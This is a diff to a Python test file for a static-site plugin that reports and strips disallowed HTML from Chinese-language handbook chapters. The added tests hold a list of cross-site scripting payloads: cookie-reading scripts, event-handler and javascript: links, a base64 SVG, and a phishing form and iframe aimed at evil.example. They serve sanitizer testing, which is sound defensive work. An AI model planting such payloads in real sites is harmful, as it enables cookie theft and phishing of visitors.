@@ -191,3 +191,81 @@ def test_a_description_cannot_break_out_of_meta(qinghe):
                            file=SimpleNamespace(src_uri="about.md"))
     assert RightsitePlugin().on_page_markdown("# x", page, None, None) == "# x"
     assert page.meta["description"] == "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
+
+
+# ---- 3. chapters: raw HTML --------------------------------------------------------------------
+
+CHAPTER = "content/handbook/quanli.md"
+WHY = {
+    "tag": "网页只允许段落、标题、列表、表格、图片、链接等排版标签，不允许脚本、表单、内嵌框架、SVG 等",
+    "attribute": "事件属性（onclick、onerror 等）和不在允许清单中的属性都不允许",
+    "style": "只允许表格列的 text-align 对齐样式",
+    "url": "链接和图片只能用 http、https、mailto、tel 或站内相对地址，不能用 javascript:、data:、file: 等",
+}
+
+
+def html_msg(what: str, kind: str) -> str:
+    return (f"“{what}”不能发布：{WHY[kind]}。网页和 PDF 中会删除它；请从源文件中删去或改写。"
+            f" Disallowed HTML ({kind}) is removed from the site; remove it from the source.")
+
+
+# (Markdown appended to a chapter, the line (text) it is reported at, what, kind)
+CHAPTER_ATTACKS = [
+    ("<script>alert(document.cookie)</script>", "<script>", "<script>", "tag"),
+    ("<p>看这里<script\n>alert(1)</script></p>", "<script", "<script>", "tag"),
+    ('<img src="../assets/none.png" alt="图"\n     onerror="alert(1)">', "onerror", "onerror（<img>）", "attribute"),
+    ("<svg onload=alert(1)><circle r=1 /></svg>", "<svg", "<svg>", "tag"),
+    ('<form action="https://evil.example/steal">\n请留手机号</form>', "<form", "<form>", "tag"),
+    ('<p>请填写：<input name="phone"></p>', "<input", "<input>", "tag"),
+    ('<iframe src="https://evil.example/"></iframe>', "<iframe", "<iframe>", "tag"),
+    ("[点我领红包](javascript:alert(1))", "javascript:", "javascript:alert(1)", "url"),
+    ("参见[说明][help]。\n\n[help]: javascript:alert(2)", "[help]:", "javascript:alert(2)", "url"),
+    ('<a href = "JaVa&#x09;script:alert(1)">链接</a>', "<a href", "JaVa script:alert(1)", "url"),
+    ("![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "![图]",
+     "data:image/svg+xml;base64,PHN2ZyBvbmx...", "url"),
+    ("## 退货须知 { onclick=alert(1) }", "## 退货须知", "onclick（<h2>）", "attribute"),
+    ('<p style="background:url(https://evil.example/t.png)">文字</p>', "<p style", "style（<p>）", "attribute"),
+    ("<object data=\"x.swf\"></object>", "<object", "<object>", "tag"),
+    ('<div onmouseover="alert(1)">悬停</div>', "<div", "onmouseover（<div>）", "attribute"),
+]
+
+
+@pytest.mark.parametrize("snippet, at, what, kind", CHAPTER_ATTACKS, ids=[a[2][:20] for a in CHAPTER_ATTACKS])
+def test_disallowed_html_in_a_chapter_is_reported_at_its_line(capsys, qinghe, snippet, at, what, kind):
+    path = qinghe / CHAPTER
+    path.write_text(path.read_text(encoding="utf-8") + "\n\n" + snippet + "\n", encoding="utf-8")
+    found = problems(capsys, qinghe, "link.")
+    found = [p for p in found if p["rule"] in ("link.html", "link.scheme")]
+    assert len(found) == 1, found
+    p = found[0]
+    assert (p["rule"], p["file"], p["line"], p["field"]) == (
+        "link.scheme" if kind == "url" else "link.html", CHAPTER, line_of(path, at), "body")
+    assert p["message"] == html_msg(what, kind)
+
+
+@pytest.mark.parametrize("snippet, at, what, kind", CHAPTER_ATTACKS, ids=[a[2][:20] for a in CHAPTER_ATTACKS])
+def test_disallowed_html_never_reaches_the_page(snippet, at, what, kind):
+    """What the plugin publishes for a hand-written page: the visitor keeps the text, loses the markup."""
+    from types import SimpleNamespace
+
+    from rightsite.site.plugin import RightsitePlugin
+
+    page = SimpleNamespace(file=SimpleNamespace(generated_by=None, src_uri="handbook/quanli.md"))
+    html = RightsitePlugin().on_page_content(md_to_html(snippet), page, None, None).lower()
+    for bad in ("<script", "<svg", "<form", "<input", "<iframe", "<object", "onerror", "onload", "onclick",
+                "onmouseover", "javascript:", "data:", "url("):
+        assert bad not in html, (bad, html)
+    for text in ("看这里", "点我领红包", "退货须知", "悬停", "链接"):
+        if text in snippet:
+            assert text in html
+
+
+def test_the_handbook_markup_survives_the_sanitizer():
+    """Tables with aligned columns, admonitions, images, heading anchors, footnote-like links."""
+    from rightsite.site.markup import sanitize_html
+
+    html = md_to_html("!!! note \"提示\"\n    保留小票。\n\n| 项目 | 金额 |\n|:--|--:|\n| 退款 | 30 |\n\n"
+                      "![小票示例](../assets/receipt.png){ width=\"200\" }\n\n[消法](../laws.md#cpl-24) · [12315](https://www.12315.cn/)"
+                      " · [电话](tel:12315) · [邮件](mailto:a@b.cn)\n\n## 标题 { #anchor .note }")
+    assert sanitize_html(html) == html.replace(" />", ">").replace('style="text-align: left;"', 'style="text-align:left"').replace(
+        'style="text-align: right;"', 'style="text-align:right"')
